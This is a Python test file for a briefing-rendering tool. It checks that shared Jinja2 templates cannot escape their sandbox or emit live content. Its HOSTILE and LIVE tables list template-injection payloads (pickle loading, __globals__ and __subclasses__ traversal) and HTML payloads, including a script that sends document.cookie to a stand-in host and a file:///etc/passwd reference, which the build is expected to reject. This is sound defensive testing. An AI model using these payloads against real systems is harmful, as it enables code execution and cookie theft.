"""A template from another office can read the briefing and nothing else.

Templates are shared between organisations, so what they are given is plain data: no
pydantic model (whose parse_raw can unpickle, and so run, anything), no method that
loads or changes something, no way out through Python's own attributes.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from typer.testing import CliRunner

from parlbrief.check import check
from parlbrief.cli.commands import app
from parlbrief.render import View, plain
from tests.conftest import MakeProject, render_page

#: Each reaches for something a template must not have; each must fail the build.
HOSTILE = {
    "pickle": "{{ briefing.signatory.parse_raw('x', content_type='pickle', allow_pickle=True) }}",
    "model copy": "{{ briefing.signatory.model_copy() }}",
    "model class": "{{ briefing.signatory.__class__ }}",
    "mutate": "{{ briefing.fields.update({'title': 'changed'}) }}",
    "list append": "{{ briefing.sections.append(1) }}",
    "globals": "{{ briefing.__init__.__globals__ }}",
    "subclasses": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "format": "{{ '{0.__class__}'.format(briefing) }}",
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_a_template_reaching_past_the_data_is_stopped_by_check(
    make_project: MakeProject, tmp_path: Path, name: str
) -> None:
    project = make_project({"templates/briefing.html.j2": HOSTILE[name]})
    out = tmp_path / f"out-{name.replace(' ', '-')}"
    result = CliRunner().invoke(
        app, ["build", "--format", "html", "-p", str(project.root), "-o", str(out)]
    )
    assert result.exit_code == 1, result.output
    assert "templates/briefing.html.j2:1: template error" in result.stderr
    assert not (out / "minimal.html").exists()


def test_templates_are_given_views_tuples_and_plain_values_only(
    make_project: MakeProject,
) -> None:
    project = make_project(
        {"templates/briefing.html.j2": "{{ briefing.signatory.name }}|{{ brand.colours.primary }}"}
    )
    page = render_page(check(project), "minimal", "html")
    assert page == "A Press Officer|#1f3a5f"


def test_plain_turns_models_and_containers_into_read_only_data() -> None:
    from parlbrief.model import Signatory

    data = plain({"who": Signatory(name="A", role=None), "items": [1, {"x": "y"}]})
    assert isinstance(data, View)
    assert isinstance(data.who, View) and data.who.name == "A" and data.who["role"] is None
    assert data.items == (1, View({"x": "y"}))
    with pytest.raises(TypeError):
        plain(object())


@pytest.mark.parametrize(
    "template, message",
    [
        (
            "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
            "took longer than 2 seconds to fill in",
        ),
        (
            "{% for i in range(100000) %}{{ 'x' * 1000 }}{% endfor %}",
            "made over 20,000,000 characters of HTML",
        ),
    ],
    ids=["endless loops", "endless output"],
)
def test_a_runaway_template_is_stopped_and_named(
    make_project: MakeProject, tmp_path: Path, template: str, message: str
) -> None:
    project = make_project({"templates/briefing.html.j2": template})
    result = CliRunner().invoke(
        app,
        ["build", "--timeout", "2", "-p", str(project.root), "-o", str(tmp_path / "out")],
    )
    assert result.exit_code == 1, result.output  # found by the check every build runs
    assert "templates/briefing.html.j2:1: template error:" in result.stderr
    assert message in result.stderr


def test_check_fills_in_a_projects_own_templates_and_names_the_failing_line(
    make_project: MakeProject,
) -> None:
    project = make_project(
        {"templates/briefing.html.j2": "<p>{{ briefing.title }}</p>\n<p>{{ briefing.titel }}</p>\n"}
    )
    result = CliRunner().invoke(app, ["check", "-p", str(project.root)])
    assert result.exit_code == 1, result.output
    assert "templates/briefing.html.j2:2: template error:" in result.stderr
    assert result.stderr.count("template error") == 1  # once, not once per page


#: What a hostile template could put in a page; each must stop `check` and the build.
LIVE = {
    "script": "<script>fetch('https://t.example/?'+document.cookie)</script>",
    "javascript link": '<a href="javascript:alert(1)">x</a>',
    "iframe": '<iframe src="https://t.example/"></iframe>',
    "remote picture": '<img src="https://t.example/pixel.png" alt="">',
    "css import": "<style>@import url(https://t.example/x.css);</style>",
    "local file": '<img src="file:///etc/passwd" alt="">',
}


@pytest.mark.parametrize("name", sorted(LIVE))
def test_a_template_that_makes_something_live_is_stopped_and_nothing_is_written(
    make_project: MakeProject, tmp_path: Path, name: str
) -> None:
    template = "<!DOCTYPE html><html><head><title>t</title></head><body>{}</body></html>"
    project = make_project({"templates/briefing.html.j2": template.format(LIVE[name])})
    checked = CliRunner().invoke(app, ["check", "-p", str(project.root)])
    assert checked.exit_code == 1, checked.output
    # At the template's line that writes it (the whole template is line 1 here).
    assert "templates/briefing.html.j2:1: the pages these templates make would not be" in (
        checked.stderr
    )
    out = tmp_path / "out"
    built = CliRunner().invoke(app, ["build", "-p", str(project.root), "-o", str(out)])
    assert built.exit_code == 1, built.output
    assert not out.exists() or not any(out.iterdir())
